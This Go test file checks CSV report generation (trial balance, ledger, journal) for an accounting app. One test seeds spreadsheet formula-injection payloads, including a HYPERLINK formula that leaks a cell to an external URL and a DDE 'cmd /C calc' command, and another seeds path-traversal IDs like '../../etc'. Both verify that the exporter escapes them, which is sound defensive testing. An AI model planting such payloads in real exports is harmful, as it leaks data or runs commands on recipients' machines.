package handlers

import (
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gocloud.dev/blob"
	"gocloud.dev/blob/memblob"

	"github.com/daybook-dev/daybook/internal/dev/pgtest/fixture"
	"github.com/daybook-dev/daybook/internal/store"
	"github.com/daybook-dev/daybook/internal/store/ledgerdb"
	"github.com/daybook-dev/daybook/jobs"
	"github.com/daybook-dev/daybook/models"
	"github.com/daybook-dev/daybook/queue"
)

// books posts two sales in March and one in April.
func (b *bundle) books() {
	b.t.Helper()
	fixture.Organization(b.t, b.Pool, org)
	fixture.Tx(b.t, b.Pool, func(ctx context.Context, tx pgx.Tx) {
		var p ledgerdb.Posting
		for n, day := range []models.Date{
			models.NewDate(2026, 3, 2), models.NewDate(2026, 3, 30),
			models.NewDate(2026, 4, 1),
		} {
			id := int64(n + 1)
			p.Impacts = append(p.Impacts, models.Impact{
				ID: id, OrgID: org, DocumentID: "inv_" + string(rune('a'+n)), DocumentVersion: 1, Seq: 1,
				Kind:           models.ImpactPost,
				RuleSetVersion: new(int64(1)), RuleID: "sale", DocumentDate: day, PostingDate: day, EntryCount: 2, JobID: "job",
				Attempt: 1,
			})
			entry := func(line int, account string, side models.Side) models.Entry {
				return models.Entry{
					ImpactID: id, LineNo: line, OrgID: org, Account: account, Side: side, Amount: 1000 * id,
					Currency: "EUR", RuleLineID: "l",
				}
			}
			p.Entries = append(p.Entries, entry(1, "1200", models.Debit), entry(2, "4400", models.Credit))
		}
		require.NoError(b.t, ledgerdb.InsertPosting(ctx, tx, p))
	})
}

// newReportIn returns a handler that writes to an open bucket.
func newReportIn(pool *pgxpool.Pool, bucket *blob.Bucket, maxRows int) *ReportHandler {
	h, err := newReport(pool, ReportConfig{MaxRows: maxRows})
	if err != nil {
		panic(err) // the templates that are built in can be read
	}
	h.bucket = bucket
	return h
}

// reports registers the type report with a bucket in memory.
func (b *bundle) reports(maxRows int) *blob.Bucket {
	b.t.Helper()
	bucket := memblob.OpenBucket(nil)
	h := newReportIn(b.Pool, bucket, maxRows)
	b.t.Cleanup(func() { assert.NoError(b.t, h.Close()) })
	jobs.Register(b.registry, ReportPolicy(), h.Handle)
	return bucket
}

// file reads what a report says it wrote.
func file(t *testing.T, bucket *blob.Bucket, r ReportResult) [][]string {
	t.Helper()
	content, err := bucket.ReadAll(t.Context(), r.Key)
	require.NoError(t, err)
	sum := sha256.Sum256(content)
	assert.Equal(t, hex.EncodeToString(sum[:]), r.SHA256)
	assert.Equal(t, int64(len(content)), r.Bytes)
	rows, err := csv.NewReader(strings.NewReader(string(content))).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, int64(len(rows)-1), r.Rows)
	return rows
}

// column returns the values of a column.
func column(t *testing.T, rows [][]string, name string) []string {
	t.Helper()
	for i, head := range rows[0] {
		if head != name {
			continue
		}
		var values []string
		for _, row := range rows[1:] {
			values = append(values, row[i])
		}
		return values
	}
	require.Fail(t, "no column "+name, rows[0])
	return nil
}

func TestReportTrialBalance(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.books()
	bucket := b.reports(0)
	r := result[ReportResult](t, b.run(Report{Kind: ReportTrialBalance, From: "2026-03-15", To: "2026-03-31"}))
	rows := file(t, bucket, r)
	assert.Equal(t, []string{"1200", "4400"}, column(t, rows, "account"))
	assert.Equal(t, []string{"10.00", "-10.00"}, column(t, rows, "opening"))
	assert.Equal(t, []string{"20.00", "0.00"}, column(t, rows, "debit"))
	assert.Equal(t, []string{"3000", "-3000"}, column(t, rows, "closing_minor"))
}

func TestReportAccountLedger(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.books()
	bucket := b.reports(0)
	r := result[ReportResult](t, b.run(Report{Kind: ReportAccountLedger, Account: "1200", From: "2026-03-15"}))
	rows := file(t, bucket, r)
	assert.Equal(t, []string{"opening", "post", "post", "closing"}, column(t, rows, "kind"))
	assert.Equal(t, []string{"10.00", "30.00", "60.00", "60.00"}, column(t, rows, "balance"))
	assert.Equal(t, []string{"", "inv_b", "inv_c", ""}, column(t, rows, "document"))
}

func TestReportJournal(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.books()
	bucket := b.reports(0)
	r := result[ReportResult](t, b.run(Report{Kind: ReportJournal, To: "2026-03-31"}))
	rows := file(t, bucket, r)
	assert.Equal(t, []string{"inv_a", "inv_a", "inv_b", "inv_b"}, column(t, rows, "document"))
}

// A text that begins like a formula is written so that a spreadsheet takes it for a text; an amount
// stays a number.
func TestReportsHoldNoFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	const link, sum, command = `=HYPERLINK("https://example.com/"&A1)`, "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"
	fixture.Tx(t, b.Pool, func(ctx context.Context, tx pgx.Tx) {
		require.NoError(t, store.PutOrganization(ctx, tx, org, org))
		_, err := ledgerdb.PutAccounts(ctx, tx, org, []models.Account{
			{Code: "+1200", Name: sum, Type: models.AccountAsset},
			{Code: "4400", Name: "Sales - all", Type: models.AccountIncome},
		}, nil)
		require.NoError(t, err)
		d := fixture.Invoice(org, link, 1000)
		d.Content.Counterparty = command
		_, err = ledgerdb.PutDocument(ctx, tx, d)
		require.NoError(t, err)
		day := models.NewDate(2026, 3, 2)
		entry := func(line int, account string, side models.Side) models.Entry {
			return models.Entry{
				ImpactID: 1, LineNo: line, OrgID: org, Account: account, Side: side, Amount: 1000,
				Currency: "EUR", RuleLineID: "=l",
			}
		}
		require.NoError(t, ledgerdb.InsertPosting(ctx, tx, ledgerdb.Posting{
			Impacts: []models.Impact{{
				ID: 1, OrgID: org, DocumentID: link, DocumentVersion: 1, Seq: 1, Kind: models.ImpactPost,
				RuleSetVersion: new(int64(1)), RuleID: "\tsale",
				DocumentDate: day, PostingDate: day, EntryCount: 2, JobID: "job", Attempt: 1,
			}},
			Entries: []models.Entry{entry(1, "+1200", models.Debit), entry(2, "4400", models.Credit)},
		}))
	})
	bucket := b.reports(0)
	report := func(r Report) [][]string { return file(t, bucket, result[ReportResult](t, b.run(r))) }

	rows := report(Report{Kind: ReportTrialBalance})
	assert.Equal(t, []string{"'+1200", "4400"}, column(t, rows, "account"))
	assert.Equal(t, []string{"'" + sum, "Sales - all"}, column(t, rows, "account_name"))
	assert.Equal(t, []string{"10.00", "-10.00"}, column(t, rows, "closing"))
	assert.Equal(t, []string{"1000", "-1000"}, column(t, rows, "closing_minor"))

	rows = report(Report{Kind: ReportAccountLedger, Account: "+1200"})
	assert.Equal(t, []string{"'+1200", "'+1200", "'+1200"}, column(t, rows, "account"))
	assert.Equal(t, []string{"", "'" + link, ""}, column(t, rows, "document"))
	assert.Equal(t, []string{"", "'\tsale", ""}, column(t, rows, "rule"))
	assert.Equal(t, []string{"", "'=l", ""}, column(t, rows, "rule_line"))
	assert.Equal(t, []string{"0.00", "10.00", "10.00"}, column(t, rows, "balance"))
	rows = report(Report{Kind: ReportAccountLedger, Account: "4400"})
	assert.Equal(t, []string{"0.00", "-10.00", "-10.00"}, column(t, rows, "balance"))

	rows = report(Report{Kind: ReportJournal})
	assert.Equal(t, []string{"'" + link, "'" + link}, column(t, rows, "document"))
	assert.Equal(t, []string{"'" + command, "'" + command}, column(t, rows, "party"))
	assert.Equal(t, []string{"'" + sum, "Sales - all"}, column(t, rows, "account_name"))
	assert.Equal(t, []string{"10.00", "-10.00"}, column(t, rows, "amount"))
	for _, row := range rows[1:] {
		for i, cell := range row {
			if rows[0][i] != "amount" {
				assert.NotRegexp(t, "^[=+@\t\r\n-]", cell, rows[0][i])
			}
		}
	}
}

func TestReportKeyIsTheJobs(t *testing.T) {
	t.Parallel()
	one := callFor(Report{Kind: ReportJournal})
	other := callFor(Report{Kind: ReportJournal})
	other.attempt = 3
	assert.Equal(t, reportKey(one), reportKey(other))
	other.key = "key_2"
	assert.NotEqual(t, reportKey(one), reportKey(other))
	for id, prefix := range map[string]string{
		"../../etc": "..%2F..%2Fetc/", "..": "%2E%2E/", ".": "%2E/",
		"a%2Fb": "a%252Fb/", "a.example": "a.example/",
	} {
		other.orgID = id
		assert.True(t, strings.HasPrefix(reportKey(other), prefix+"journal/"), reportKey(other))
	}
}

// The directory has the file when it is complete, under a name that the next attempt writes again.
func TestReportToDirectory(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.books()
	dir := t.TempDir()
	b.variables(map[string]string{"DAYBOOK_REPORTS_BUCKET": "file://" + dir + "?no_tmp_dir=1&metadata=skip"})
	j := b.enqueueFor(org, Report{Kind: ReportTrialBalance}, queue.JobOptions{IdempotencyKey: "2026-03"})
	b.work()
	r := result[ReportResult](t, b.job(j))
	content, err := os.ReadFile(filepath.Join(dir, r.Key))
	require.NoError(t, err)
	sum := sha256.Sum256(content)
	assert.Equal(t, hex.EncodeToString(sum[:]), r.SHA256)
}

func TestReportFailures(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.books()
	b.reports(1)
	for name, c := range map[string]struct {
		org     string
		payload Report
		code    models.ErrorCode
	}{
		"kind":            {org, Report{Kind: "profit"}, models.CodePayloadInvalid},
		"account missing": {org, Report{Kind: ReportAccountLedger}, models.CodePayloadInvalid},
		"account given":   {org, Report{Kind: ReportJournal, Account: "1200"}, models.CodePayloadInvalid},
		"currency given":  {org, Report{Kind: ReportJournal, Currency: "EUR"}, models.CodePayloadInvalid},
		"day":             {org, Report{Kind: ReportJournal, From: "14.03.2026"}, models.CodePayloadInvalid},
		"span": {
			org,
			Report{Kind: ReportJournal, From: "2026-03-02", To: "2026-03-01"},
			models.CodePayloadInvalid,
		},
		"too many rows":     {org, Report{Kind: ReportAccountLedger, Account: "1200"}, models.CodePayloadInvalid},
		"no organization":   {"org_9", Report{Kind: ReportJournal}, models.CodeNotFound},
		"no account":        {org, Report{Kind: ReportAccountLedger, Account: "9999"}, models.CodeNotFound},
		"another's account": {"org_9", Report{Kind: ReportAccountLedger, Account: "1200"}, models.CodeNotFound},
	} {
		id := b.enqueueFor(c.org, c.payload, queue.JobOptions{})
		b.work()
		assert.Equal(t, models.JobFailed, b.job(id).State, name)
		assert.Equal(t, c.code, b.job(id).Code, "%s: %s", name, b.job(id).Error)
	}
}

// A bucket that is gone is tried again by the table, and leaves no half of a file.
func TestReportRetriesByItsTable(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.books()
	dir := filepath.Join(t.TempDir(), "reports")
	require.NoError(t, os.Mkdir(dir, 0o700))
	b.variables(map[string]string{"DAYBOOK_REPORTS_BUCKET": "file://" + dir + "?no_tmp_dir=1"})
	require.NoError(t, os.Remove(dir))
	require.NoError(t, os.WriteFile(dir, nil, 0o600)) // where there was a directory is a file
	id := b.enqueue(Report{Kind: ReportJournal})
	for _, wait := range []time.Duration{30 * time.Second, time.Minute} {
		b.due()
		b.work()
		assert.Equal(t, models.CodeNetworkError, b.job(id).Code, b.job(id).Error)
		jittered(t, wait, b.job(id).Wait)
	}
	b.due()
	b.work()
	assert.Equal(t, models.JobFailed, b.job(id).State)
}

func TestReportLeavesNoHalfOfAFile(t *testing.T) {
	t.Parallel()
	b := setup(t)
	bucket := b.reports(0)
	h := newReportIn(b.Pool, bucket, 0)
	r := ReportResult{Key: "half.csv"}
	err := h.upload(t.Context(), &r, "text/csv", func(w io.Writer) (int64, error) {
		_, _ = w.Write([]byte("half"))
		return 0, errors.New("the database became unavailable")
	})
	require.ErrorContains(t, err, "the database became unavailable")
	exists, err := bucket.Exists(t.Context(), r.Key)
	require.NoError(t, err)
	assert.False(t, exists)
}
